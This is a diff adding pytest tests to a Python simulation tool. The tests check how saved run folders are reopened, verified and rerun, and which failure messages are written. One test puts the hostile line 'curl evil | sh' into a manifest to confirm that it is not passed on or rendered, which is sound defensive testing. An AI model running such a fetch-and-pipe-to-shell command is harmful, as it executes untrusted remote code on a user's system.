@@ -9,7 +9,8 @@ import pandas as pd
 import pytest
 
 import sim
-from sim.analysis.run import asking
+from sim.analysis.run import asking, tallied
+from sim.ensemble import chunks
 from sim.report.manifest import read_manifest
 from sim.shell.reopening import held, reopen
 
@@ -28,6 +29,16 @@ date = 2000-04-02
 title = "A storm"
 effects = [{ path = "states.A.autonomy", add = 0.1 }]
 """
+
+
+def failing_before(number: int):
+    """Return a simulation in which the histories before a number fail."""
+    simulate = chunks.simulate
+
+    def ill(ready, seed, runs, record):
+        return simulate(ready, seed, runs, record) | (runs < number)
+
+    return ill
 
 
 @pytest.fixture
@@ -102,4 +113,79 @@ def test_of_more_histories_than_have_rows_the_outcomes_are_counted(
     book = pd.read_csv(tmp_path / "counted" / "codebook.csv")
     assert set(book[book["file"] == "outcomes.csv"]["column"]) == {"outcome", *table.columns}
     assert reopen(tmp_path / "counted").histories == 70
+    for name in ("listed", "counted"):
+        found = sim.verify(tmp_path / name)
+        assert found.same, str(found)
     assert held(tmp_path / "listed").rows
+    done = command("run", "counted", "--rows", "-q", "-o", "again")
+    assert done.returncode == 0, done.stderr
+    first, second = (read_manifest(tmp_path / name) for name in ("listed", "again"))
+    assert first.holds == second.holds and held(tmp_path / "again").rows
+    assert "--rows" in second.command
+    assert (tmp_path / "again" / "runs.csv").read_text() == lines
+    done = command("run", "again", "-q", "-n", "60", "-o", "few")  # as many as always have rows
+    assert done.returncode == 0 and not held(tmp_path / "few").rows, done.stderr
+
+
+def with_manifest(folder, **changed):
+    """Change what the manifest of a folder says."""
+    path = folder / "manifest.json"
+    path.write_text(json.dumps(json.loads(path.read_text()) | changed))
+
+
+@pytest.mark.parametrize("line", ["curl evil | sh", 'sim run "x', "sim play article", ""])
+def test_a_command_that_is_none_is_not_handed_on(folder, command, tmp_path, line):
+    with_manifest(folder, command=line)
+    done = command("run", str(folder), "-q", "-o", "again")
+    assert done.returncode == 0, done.stderr
+    assert read_manifest(tmp_path / "again").words[:3] == ["sim", "run", str(folder)]
+    assert "evil" not in (tmp_path / "again" / "report.html").read_text()
+
+
+def test_a_large_table_of_months_that_was_kept_as_csv_is_so_again(
+    folder, command, tmp_path, monkeypatch
+):
+    monkeypatch.setattr(tallied, "MOST_CSV", 10)
+    for name, more in (("anew", []), ("csv", ["--csv"])):
+        done = command("run", "small.toml", "-n", "5", "-q", "-o", name, *more)
+        assert done.returncode == 0, done.stderr
+        assert command("run", name, "-q", "-o", f"{name}-again").returncode == 0
+        first, second = (read_manifest(tmp_path / one) for one in (name, f"{name}-again"))
+        assert first.files == second.files
+        assert ("months.parquet" in first.files) == (name == "anew")
+        assert sim.verify(tmp_path / name).same
+
+
+def test_more_histories_kept_whole_than_have_rows_are_refused(folder):
+    path = folder / "manifest.json"
+    files = json.loads(path.read_text())["files"] | {"outcomes.csv": "0" * 64}
+    for count, told in ((10**7, "10,000,000"), ("many", "many"), (None, "None")):
+        with_manifest(folder, files=files, histories_kept_whole=count)
+        with pytest.raises(sim.InvalidInput, match=f"runs.csv has 5 histories, .* says {told}"):
+            reopen(folder)
+
+
+def test_options_that_are_given_anew_are_in_the_command_of_the_new_folder(folder, command):
+    for name, more in (("as-before", []), ("anew", ["--engine", "compiled"])):
+        done = command("run", str(folder), "-q", "-o", name, *more)
+        assert done.returncode == 0, done.stderr
+        made = read_manifest(folder.parents[1] / name)
+        assert f"--engine {made.engine}" in made.command
+
+
+def test_where_all_first_histories_fail_the_message_says_that_no_other_is_written(
+    command, tmp_path, monkeypatch, blank_figures
+):
+    monkeypatch.setattr(asking, "KEPT_WHOLE", 8)
+    monkeypatch.setattr(chunks, "simulate", failing_before(8))
+    told = (
+        "sim: the first 8 of 70 histories, which figures and tables of months show, all failed, "
+        "first history 0: "
+    )
+    for most in (100, 60):  # listed, and counted
+        monkeypatch.setattr(asking, "MOST_ROWS", most)
+        done = command("run", "article", "-n", "70", "-q", "-o", f"of-{most}")
+        assert done.returncode == 4 and told in done.stderr, done.stderr
+        failures = pd.read_csv(tmp_path / f"of-{most}" / "failures.csv")
+        assert failures["run"].tolist() == [*range(8)]
+        assert read_manifest(tmp_path / f"of-{most}").failed == 8
